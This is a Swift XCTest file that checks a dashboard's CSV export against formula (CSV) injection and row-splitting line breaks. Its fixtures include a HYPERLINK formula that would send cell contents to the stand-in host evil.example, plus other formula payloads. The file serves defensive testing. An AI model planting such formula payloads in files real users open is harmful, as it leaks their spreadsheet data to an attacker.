import Foundation
import Records
@testable import Report
import XCTest

/// The CSV files are opened in spreadsheets: a record value that starts like a formula is
/// written so that it shows as text and never runs (OWASP, CSV injection).
final class OpenDataTests: XCTestCase {
    func testCellsThatStartLikeAFormulaGetAnApostrophe() {
        let cells = ["=1+1", "+33 1 23", "-2", "@SUM(A1:A2)", "\tx", "\rx", "\nx", "＝1+1", "plain", "a=b", "", "2026-12-01", "'quoted"]
        let csv = String(decoding: OpenData.csv(["value"], cells.map { [$0] }), as: UTF8.self)
        XCTAssertEqual(csv.components(separatedBy: "\r\n"), [
            "value", "'=1+1", "'+33 1 23", "'-2", "'@SUM(A1:A2)", "'\tx", "\"'\rx\"", "\"'\nx\"", "'＝1+1",
            "plain", "a=b", "", "2026-12-01", "'quoted", "",
        ])
    }

    func testAHostileTitleIsNeutralizedInTheDashboardsCSV() throws {
        let plan = try Fixtures.sampleCopy(self)
        try Fixtures.edit(plan, "commitments/01/commitment.yaml",
                          replacing: #"en: "Citizens' budget and open budget data""#,
                          with: #"en: '=HYPERLINK("http://evil.example/?"&A1,"Click")'"#)
        let site = try Fixtures.temporaryDirectory(self, "site")
        try Dashboard(snapshot: Fixtures.snapshot(plan), language: .en, asOf: Fixtures.asOf).write(to: site)
        let csv = try Fixtures.read(site.appendingPathComponent("commitments.csv"))
        XCTAssertTrue(csv.contains(#",1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","#), csv)
        XCTAssertFalse(csv.contains(#","=HYPERLINK"#))
        // data.json keeps the value as the record holds it: JSON is not opened as a sheet.
        let json = try Fixtures.read(site.appendingPathComponent("data.json"))
        XCTAssertTrue(json.contains(#""en" : "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")""#), json)
    }

    /// A quote that a combining accent follows is still a quote: doubled inside its quoted cell,
    /// so Python's csv module reads the cell back whole (Foundation's replacing compared
    /// characters and left it single, which closed the cell early).
    func testAQuoteWithACombiningAccentStaysInsideItsCell() throws {
        let values = ["a\"\u{301},b", "\"\u{301}", "x\"\u{301}\n=1+1", "é\"e\u{301}\"\u{2028}", "plain, comma", "\u{85}\"\u{301}"]
        let file = try Fixtures.temporaryDirectory(self, "csv").appendingPathComponent("q.csv")
        try OpenData.csv(["n", "value"], values.enumerated().map { [String($0.offset), $0.element] }).write(to: file)
        let read = try Self.pythonCSV(file)
        XCTAssertEqual(read.count, values.count + 1, "\(read)")
        for (i, value) in values.enumerated() where i + 1 < read.count {
            XCTAssertEqual(read[i + 1], [String(i), OpenData.neutralizingFormula(value)], "value \(i)")
        }
    }

    /// Every line-break form, in values with and without commas, at the start, inside and at
    /// the end: Python's csv module (an independent reader) reads back one row per value, two
    /// cells per row, each cell as written, and no cell starts like a formula.
    func testEveryLineBreakFormStaysInsideItsCellForPythonsCSVReader() throws {
        let breaks = ["\r\n", "\n", "\r", "\n\r", "\u{2028}", "\u{2029}", "\u{85}", "\u{0B}", "\u{0C}"]
        var values: [String] = []
        for b in breaks {
            values += ["a\(b)=HYPERLINK(\"http://evil.example\")", "a,b\(b)=1+1", "\(b)=1+1", "\(b)@SUM(A1)", b,
                       "x\(b)", "\"q\"\(b)-2", "\(b)\(b)+3"]
        }
        let rows = values.enumerated().map { [String($0.offset), $0.element] }
        let file = try Fixtures.temporaryDirectory(self, "csv").appendingPathComponent("t.csv")
        try OpenData.csv(["n", "value"], rows).write(to: file)
        let read = try Self.pythonCSV(file)
        XCTAssertEqual(read.count, values.count + 1, "rows")
        XCTAssertEqual(read.first, ["n", "value"])
        for (i, value) in values.enumerated() {
            let row = read[i + 1]
            XCTAssertEqual(row.count, 2, "value \(i) \(value.debugDescription) spilled: \(row)")
            XCTAssertEqual(row.first, String(i))
            XCTAssertEqual(row.last, OpenData.neutralizingFormula(value), "value \(i)")
            // OWASP's list, and the line breaks: written here, not taken from the product.
            if let first = row.last?.unicodeScalars.first {
                XCTAssertFalse("=+-@\t\r\n\u{0B}\u{0C}\u{85}\u{2028}\u{2029}".unicodeScalars.contains(first),
                               "value \(i) \(value.debugDescription) starts like a formula")
            }
        }
        // Raw: every value holding a break is written in quotes. (A line inside a quoted cell
        // may start with `=`: it is not a cell, and spreadsheets evaluate a cell from its start.)
        let text = String(decoding: try Data(contentsOf: file), as: UTF8.self)
        for value in values {
            let cell = OpenData.neutralizingFormula(value).replacingOccurrences(of: "\"", with: "\"\"")
            XCTAssertTrue(text.contains(",\"\(cell)\"\r\n"), "not quoted: \(value.debugDescription)")
        }
    }

    /// A record value holding CR LF and no comma (the case a test on Swift Characters let
    /// through), in the dashboard's own commitments.csv: still one row per commitment.
    func testACRLFInATitleDoesNotStartANewRowInTheDashboardsCSV() throws {
        let plan = try Fixtures.sampleCopy(self)
        try Fixtures.edit(plan, "commitments/01/commitment.yaml",
                          replacing: #"en: "Citizens' budget and open budget data""#,
                          with: #"en: "Budget\r\n=1+1\r\n@SUM(1)""#)
        let site = try Fixtures.temporaryDirectory(self, "site")
        try Dashboard(snapshot: Fixtures.snapshot(plan), language: .en, asOf: Fixtures.asOf).write(to: site)
        let rows = try Self.pythonCSV(site.appendingPathComponent("commitments.csv"))
        XCTAssertEqual(rows.count, Fixtures.snapshot(plan).commitments.count + 1)
        XCTAssertTrue(rows.allSatisfy { $0.count == 13 + OpenData.shapeHeader.count }, "\(rows)")
        XCTAssertEqual(rows.first { $0.first == "01" }?[2], "Budget\r\n=1+1\r\n@SUM(1)")
    }

    /// The rows Python's csv module reads from a file (the reader spreadsheets' importers follow).
    static func pythonCSV(_ file: URL) throws -> [[String]] {
        let python = try Fixtures.requireTool("python3", package: "python3")
        let script = "import csv, json, sys\nwith open(sys.argv[1], newline='', encoding='utf-8') as f:\n    print(json.dumps(list(csv.reader(f))))"
        let result = try Fixtures.run(python, ["-c", script, file.path])
        XCTAssertEqual(result.status, 0, result.output)
        return try JSONDecoder().decode([[String]].self, from: Data(result.output.utf8))
    }
}
